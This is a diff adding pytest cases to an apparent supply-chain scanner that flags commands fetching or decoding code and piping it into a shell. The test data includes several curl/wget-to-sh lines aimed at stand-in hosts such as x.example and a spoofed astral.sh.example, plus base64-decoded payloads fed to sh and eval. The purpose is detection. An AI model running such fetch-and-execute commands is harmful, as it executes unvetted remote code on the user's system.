@@ -620,3 +620,65 @@ def test_what_is_too_long_or_deep_to_read_stays_open(line: str) -> None:
         assert any("too long" in unreadable for *_, unreadable in told(name, text))
         harmless = text.replace("pip install", "printf is")
         assert read_document(harmless.encode(), name, hint="lock") is None
+
+
+# What is fetched
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl -sSL https://x.example/i.sh | sh",
+        "apt-get update && wget -qO- https://x.example/i.sh | sudo -E bash -s -- --all",
+        "curl http://astral.sh/uv/install.sh | sh",
+        "curl https://astral.sh.example/uv/install.sh | env A=1 /bin/sh",
+        "curl https://x.example/i.py | python3 -",
+        'sh -c "$(curl -fsSL https://x.example/i.sh)"',
+        "bash <(wget -qO- https://x.example/i.sh)",
+        "curl $ADDRESS | sh",
+        "echo cGlwIGluc3RhbGwgbGl0ZWxsbQ== | base64 -d | sh",
+        'eval "$(echo cGlw | base64 --decode)"',
+    ],
+)
+def test_commands_that_are_fetched_or_decoded_cannot_be_read(line: str) -> None:
+    for name, text in (("x.sh", line), ("Dockerfile", f"FROM python\nRUN {line}\n")):
+        assert any(unreadable.startswith("commands ") for *_, unreadable in told(name, text))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl -LsSf https://astral.sh/uv/install.sh | sh",
+        "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y",
+        "curl -fsSL https://deb.nodesource.com/setup_20.x | bash -",
+        'sh -c "$(curl -fsSL https://www.get.docker.com/)"',
+        "curl https://x.example/a.json | python3 -m json.tool",
+        "curl https://x.example/a.json | python3 -c 'print(1)'",
+        "curl https://x.example/a.tgz | tar xz && sh a/configure",
+        "curl https://x.example/key | gpg --dearmor | tee /etc/key",
+        "wget https://x.example/rows.tar.gz -O a.tar.gz",
+        "# curl https://x.example/i.sh | sh",
+        "base64 -d key > key.pem",
+    ],
+)
+def test_installers_of_well_known_tools_and_other_files_say_nothing(line: str) -> None:
+    assert read_document(line.encode(), "x.sh", hint="lock") is None
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "tool"),
+    [
+        ("x.sh", "wget https://x.example/litellm-1.82.7.tar.gz && tar xf litellm-1.82.7.tar.gz\n", "download"),
+        ("x.sh", "curl -O https://x.example/litellm-1.82.7-py3-none-any.whl\n", "download"),
+        ("Dockerfile", "FROM ghcr.io/berriai/litellm:v1.82.7 AS x\n", "image"),
+        ("Dockerfile", "FROM --platform=linux/arm64 ghcr.io/berriai/litellm:main-v1.82.7-stable\n", "image"),
+    ],
+)
+def test_the_file_or_image_of_a_release_is_named(name: str, text: str, tool: str) -> None:
+    (found,) = read(name, text).commands
+    assert ([str(one) for one in found.requirements], found.tool) == (["litellm==1.82.7"], tool)
+
+
+def test_other_images_name_no_release() -> None:
+    for image in ("python:3.12", "ghcr.io/x/app:latest", "ghcr.io/x/app@sha256:00", "x/app:7"):
+        assert read_document(f"FROM {image}\n".encode(), "Dockerfile", hint="lock") is None
